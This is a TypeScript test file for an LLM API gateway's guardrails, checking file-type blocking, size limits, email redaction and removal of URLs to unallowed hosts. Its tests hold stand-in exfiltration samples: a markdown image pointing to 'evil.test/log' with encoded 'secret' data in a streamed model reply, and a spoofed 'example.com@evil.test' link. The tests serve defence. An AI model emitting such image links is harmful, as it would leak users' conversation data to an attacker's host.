import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startGateway, type RunningGateway } from '../gateway-fixture.ts'
import { startReplay, type ReplayUpstream } from '../replay-upstream.ts'
import { chunks, completion, response, saidIn } from './said-answers.ts'

/*
 * What calls bring and name, over real sockets: files of types that are not allowed, calls that are too large, text documents in base64, and
 * URLs of hosts that nobody allowed, in every dialect, whole and as a stream.
 */
let upstream: ReplayUpstream
let weir: RunningGateway

beforeAll(async () => {
  upstream = await startReplay()
  weir = await startGateway({
    env: { KEY: 'upstream-key-1' },
    config: `
providers:
  chat: { kind: openai-compatible, baseUrl: "${upstream.origin}/v1", credentials: { apiKey: env:KEY }, responses: true, prices: { "*": { input: "1", output: "2" } } }
models:
  gpt: { targets: [{ provider: chat, model: m1 }] }
  picture: { targets: [{ provider: chat, model: m1 }] }
guardrails:
  files: { fileTypes: [application/pdf, image/png, text/plain], action: block, phases: [input], when: 'call.model != "picture"' }
  size: { largest: { characters: 2000, messages: 3, pictures: 1 }, action: block, phases: [input] }
  papers: { largest: { documents: 0 }, action: block, phases: [input], when: 'call.model == "picture"' }
  links: { urls: { allow: [example.com] }, action: redact }
  mail: { find: [email], action: redact }
`,
  })
})

afterAll(async () => {
  await weir.close()
  await upstream.close()
})

const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64')
const png = base64('\x89PNG\r\n\x1a\n0000IHDR')
const zip = base64('PK\x03\x04 and more')

/** One file, in the words of each dialect. */
function withFile(type: string, data: string): readonly (readonly [path: string, body: object])[] {
  const url = `data:${type};base64,${data}`
  return [
    [
      '/v1/chat/completions',
      {
        model: 'gpt',
        messages: [{ role: 'user', content: [{ type: 'file', file: { filename: 'a', file_data: url } }] }],
      },
    ],
    [
      '/v1/messages',
      {
        model: 'gpt',
        max_tokens: 9,
        messages: [
          { role: 'user', content: [{ type: 'document', source: { type: 'base64', media_type: type, data } }] },
        ],
      },
    ],
    [
      '/v1/responses',
      {
        model: 'gpt',
        input: [{ role: 'user', content: [{ type: 'input_file', filename: 'a', file_data: url }] }],
      },
    ],
    [
      '/v1beta/models/gpt:generateContent',
      { contents: [{ role: 'user', parts: [{ inlineData: { mimeType: type, data } }] }] },
    ],
    [
      '/v1/messages',
      {
        model: 'gpt',
        max_tokens: 9,
        messages: [
          { role: 'user', content: 'hi' },
          { role: 'assistant', content: [{ type: 'tool_use', id: 't', name: 'read', input: {} }] },
          {
            role: 'user',
            content: [
              {
                type: 'tool_result',
                tool_use_id: 't',
                content: [{ type: 'document', source: { type: 'base64', media_type: type, data } }],
              },
            ],
          },
        ],
      },
    ],
  ]
}

describe('files of types that are not allowed', () => {
  it.each([...withFile('application/zip', zip), ...withFile('application/pdf', zip)])(
    'are refused, and no provider hears of them: %s %j',
    async (path, body) => {
      const before = upstream.seen.length
      const refused = await ask(path, body)
      expect(refused.status).toBe(403)
      expect(await refused.text()).toMatch(
        /guardrail files blocked the call: it holds a file .*application\/(?:zip|pdf)/,
      )
      expect(upstream.seen.length).toBe(before)
    },
  )

  it('are refused in a form', async () => {
    const form = new FormData()
    form.set('model', 'gpt')
    form.set('file', new Blob([Buffer.from('MZ and more')], { type: 'audio/wav' }), 'a.wav')
    const refused = await fetch(`${weir.gateway.dataOrigin}/v1/audio/transcriptions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${weir.key}` },
      body: form,
    })
    expect(refused.status).toBe(403)
    expect(await refused.text()).toContain('audio/wav')
  })

  it('are told from those that are, which leave', async () => {
    upstream.answer(completion('ok'))
    const [chat] = withFile('application/pdf', base64('%PDF-1.7 and more'))
    expect((await ask(chat?.[0] ?? '', chat?.[1] ?? {})).status).toBe(200)
  })

  it('may be at a URL, whose type nobody can tell from here', async () => {
    const body = (model: string) => ({
      model,
      messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'https://example.com/a.png' } }] }],
    })
    const refused = await ask('/v1/chat/completions', body('gpt'))
    expect([refused.status, await refused.text()]).toEqual([
      403,
      expect.stringContaining('a picture whose type cannot'),
    ])
    upstream.answer(completion('ok'))
    expect((await ask('/v1/chat/completions', body('picture'))).status).toBe(200)
  })
})

describe('a call that is too large', () => {
  it.each([
    ['2015 characters of text, and may hold 2000', [{ role: 'user', content: 'x '.repeat(1_007) + 'x' }]],
    ['4 messages', ['a', 'b', 'c', 'd'].map((content) => ({ role: 'user', content }))],
    [
      '2 pictures',
      [
        {
          role: 'user',
          content: Array.from({ length: 2 }, () => ({
            type: 'image_url',
            image_url: { url: `data:image/png;base64,${png}` },
          })),
        },
      ],
    ],
  ])('is refused, with what there is: %s', async (says, messages) => {
    const refused = await ask('/v1/chat/completions', { model: 'gpt', messages })
    expect(refused.status).toBe(403)
    expect(await refused.json()).toMatchObject({
      error: { code: 'guardrail_blocked', message: expect.stringContaining(says.split(' ').slice(1, 3).join(' ')) },
    })
  })
})

describe('what a search gave', () => {
  it('is text, and no document that is counted', async () => {
    const askWith = (block: object) =>
      ask('/v1/messages', { model: 'picture', max_tokens: 9, messages: [{ role: 'user', content: [block] }] })
    const content = [{ type: 'text', text: 'found' }]
    upstream.answer(completion('ok'))
    expect((await askWith({ type: 'search_result', source: 's', title: 't', content })).status).toBe(200)
    expect((await askWith({ type: 'document', source: { type: 'content', content } })).status).toBe(403)
  })
})

describe('a text document in base64', () => {
  it.each(withFile('text/plain', Buffer.from('Zürich, ada@example.com').toString('base64')))(
    'G6: leaves redacted: %s %j',
    async (path, body) => {
      upstream.answer(path === '/v1/responses' ? response : completion('ok'))
      const answer = await ask(path, body)
      expect([answer.status, answer.headers.get('x-weir-guardrails')]).toEqual([200, 'mail=redact'])
      const left = upstream.seen.at(-1)?.body.toString() ?? ''
      const decoded = [...left.matchAll(/[A-Za-z0-9+/]{16,}={0,2}/g)].map(([one]) =>
        Buffer.from(one, 'base64').toString(),
      )
      expect([left, ...decoded].join('\n')).toContain('[EMAIL]')
      expect([left, ...decoded].join('\n')).not.toContain('ada@')
    },
  )
})

describe('URLs of hosts that nobody allowed', () => {
  it('do not leave, neither in texts nor as the place of a picture', async () => {
    upstream.answer(completion('ok'))
    await ask('/v1/chat/completions', {
      model: 'picture',
      messages: [
        { role: 'user', content: 'read https://example.com@evil.test/a and https://example.com/b' },
        { role: 'user', content: [{ type: 'image_url', image_url: { url: 'https://evil.test/a.png' } }] },
      ],
    })
    const left = upstream.seen.at(-1)?.body.toString() ?? ''
    expect(left).toContain('read [URL] and https://example.com/b')
    expect(left).not.toContain('evil.test')
  })

  it('G3: are not shown, wherever a stream is cut, so that no client fetches a picture that tells what was said', async () => {
    const said = 'Done. ![x](https://evil.test/log?d=c2VjcmV0) See https://example.com/a.'
    for (let cut = 1; cut < said.length; cut += 3) {
      upstream.answer(chunks([said.slice(0, cut), said.slice(cut)]))
      const answer = await ask('/v1/chat/completions', {
        model: 'gpt',
        stream: true,
        messages: [{ role: 'user', content: 'hi' }],
      })
      const text = await answer.text()
      expect(text).not.toMatch(/evil|c2VjcmV0/)
      expect(saidIn(text)).toBe('Done. ![x]([URL]) See https://example.com/a.')
    }
  })
})

async function ask(path: string, body: object): Promise<Response> {
  return await fetch(`${weir.gateway.dataOrigin}${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${weir.key}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
}
